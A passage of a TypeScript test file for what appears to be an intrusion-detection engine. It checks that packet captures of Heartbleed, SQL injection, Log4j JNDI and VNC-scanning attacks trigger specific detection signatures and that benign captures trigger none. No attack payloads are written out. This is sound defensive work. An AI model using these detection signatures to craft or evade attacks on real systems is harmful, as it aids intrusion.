  if (l4 + 20 > e) return;
  const pay = l4 + (b[l4 + 12] >> 4) * 4;
  const payloadLen = ipEnd - pay, captured = Math.min(e, ipEnd) - pay;
  if (payloadLen <= 0 || captured <= 0) return;
  const a = `${src}:${dv.getUint16(l4)}`, z = `${dst}:${dv.getUint16(l4 + 2)}`;
  out.push({ key: a < z ? `${a}-${z}` : `${z}-${a}`, fwdKey: a, buf: b, off: pay, captured, payloadLen });
}

const NAMES: Array<[number, string]> = [
  [HS, 'handshake'], [CCS, 'ccs'], [OVERRUN, 'overrun'], [SQLI, 'sqli'], [XSS, 'xss'], [TRAV, 'traversal'],
  [JNDI, 'jndi'], [V37, 'rfb37'], [FAILED, 'rfbFailed'],
];

/** Packets with each tell (and `segments`: TCP segments with payload), and the SIG_* bits of each flow with any. */
function survey(file: string): { packets: Record<string, number>; flowSigs: number[] } {
  const packets: Record<string, number> = { segments: 0 };
  const flows = new Map<string, { fwd: string; n: number; mask: number }>();
  for (const s of tcpSegments(file)) {
    let f = flows.get(s.key);
    if (f === undefined) { f = { fwd: s.fwdKey, n: 0, mask: 0 }; flows.set(s.key, f); }
    const t = inspectTcpPayload(s.buf, s.off, s.captured, s.payloadLen);
    packets.segments++;
    for (const [bit, name] of NAMES) if ((t & bit) !== 0) packets[name] = (packets[name] ?? 0) + 1;
    // packetsBefore counts payload packets here (this walker drops bare ACKs): an approximation for the test only.
    if (t !== 0) f.mask = mergeTells(f.mask, t, s.fwdKey === f.fwd, f.n);
    f.n++;
  }
  const flowSigs = [...flows.values()].map((f) => flowSignatures(f.mask)).filter((x) => x !== 0);
  return { packets, flowSigs };
}

test('real captures: exact tells per capture, benign ones without attack tells', { skip: !fs.existsSync(PCAPS) && 'no ../shared' }, () => {
  const attack: Record<string, { packets: Record<string, number>; flowSigs: number[] }> = {
    'zeek_tls_heartbleed.pcap': { packets: { segments: 9, handshake: 2, overrun: 1 }, flowSigs: [SIG_HEARTBLEED] },
    'zeek_tls_heartbleed-success.pcap': { packets: { segments: 15, handshake: 2, overrun: 1 }, flowSigs: [SIG_HEARTBLEED] },
    'zeek_rfb_vnc-scanner.pcap': { packets: { segments: 11, rfb37: 2, rfbFailed: 1 }, flowSigs: [SIG_VNC_AUTH_FAILED] },
    'nfstream_WebattackSQLinj_CICIDS2017.pcap': { packets: { segments: 19, sqli: 7 }, flowSigs: [SIG_SQLI, SIG_SQLI, SIG_SQLI, SIG_SQLI, SIG_SQLI, SIG_SQLI, SIG_SQLI] },
    'chrissanders_http_dvwa_sqlinjection.pcapng': { packets: { segments: 8, sqli: 3 }, flowSigs: [SIG_SQLI, SIG_SQLI, SIG_SQLI] },
    'zeek_http_cooper-grill-dvwa.pcapng': { packets: { segments: 12, sqli: 3 }, flowSigs: [SIG_SQLI, SIG_SQLI, SIG_SQLI] },
    'ndpi_log4j-webapp-exploit.pcap': { packets: { segments: 194, jndi: 1 }, flowSigs: [SIG_JNDI] },
  };
  for (const [name, want] of Object.entries(attack)) {
    assert.deepEqual(survey(path.join(PCAPS, 'attack', name)), want, name);
  }
  // The other attack captures (scans, floods, tunnels, malware C2, SSH guessing, slowloris) carry no content
  // signature: TLS tells at most, no flow signature.
  for (const name of fs.readdirSync(path.join(PCAPS, 'attack')).filter((f) => /\.(pcap|pcapng|cap)$/.test(f))) {
    if (attack[name] !== undefined) continue;
    const got = survey(path.join(PCAPS, 'attack', name));
    assert.deepEqual(got.flowSigs, [], name);
    assert.deepEqual(Object.keys(got.packets).filter((k) => !['segments', 'handshake', 'ccs'].includes(k)), [], name);
  }
  // Benign: pinned counts (TCP segments with payload; TLS handshakes and CCS the only tells); every capture of the set.
  const benign: Record<string, Record<string, number>> = {
    'chrissanders_http_google.pcapng': { segments: 6 },
    'chrissanders_http_ip4and6.pcapng': { segments: 4 },
    'chrissanders_icmp_traceroute.pcapng': { segments: 0 },
    'chrissanders_tcp_handshake.pcapng': { segments: 0 },
    'chrissanders_tcp_refuseconnection.pcapng': { segments: 0 },
    'chrissanders_tcp_retransmissions.pcapng': { segments: 6 },
    'chrissanders_tcp_teardown.pcapng': { segments: 0 },
    'cicflowmeter-sample_CICIDS2017_single-flow.pcap': { segments: 17, handshake: 4, ccs: 2 },
    'ndpi_memcached.cap': { segments: 2 },
    'nfstream_android.pcap': { segments: 183, handshake: 47, ccs: 30 },
    'nfstream_ftp.pcap': { segments: 770 },
    'nfstream_google_ssl.pcap': { segments: 12, handshake: 4, ccs: 2 },
    'nfstream_http_ipv6.pcap': { segments: 51, handshake: 24, ccs: 12 },
    'nfstream_one_flow.pcap': { segments: 11, handshake: 4, ccs: 2 },
    'nfstream_quic.pcap': { segments: 0 },
    'nfstream_ssh.pcap': { segments: 154 },
    'zeek_communityid_arp.pcap': { segments: 0 },
    'zeek_communityid_icmp.pcap': { segments: 0 },
    'zeek_communityid_icmp6.pcap': { segments: 0 },
    'zeek_communityid_ipv6.pcap': { segments: 7 },
    'zeek_communityid_sctp.pcap': { segments: 0 },
    'zeek_communityid_tcp.pcap': { segments: 3 },
    'zeek_communityid_udp.pcap': { segments: 0 },
    'zeek_dns53.pcap': { segments: 0 },
    'zeek_ftp_ipv4.pcap': { segments: 42 },
    'zeek_ftp_ipv6.pcap': { segments: 59 },
    'zeek_icmp6-ping.pcap': { segments: 0 },
    'zeek_icmp_5-pings.pcap': { segments: 0 },
    'zeek_ssh_many-sessions.pcap': { segments: 969 },
    'zeek_web.pcap': { segments: 8 },
    'zeek_wikipedia.pcap': { segments: 30 },
  };

  const files = fs.readdirSync(path.join(PCAPS, 'benign')).filter((f) => /\.(pcap|pcapng|cap)$/.test(f)).sort();
  const got: Record<string, Record<string, number>> = {};
  for (const name of files) {
    const s = survey(path.join(PCAPS, 'benign', name));
    assert.deepEqual(s.flowSigs, [], name);
    got[name] = s.packets;
  }
  assert.deepEqual(got, benign);
});
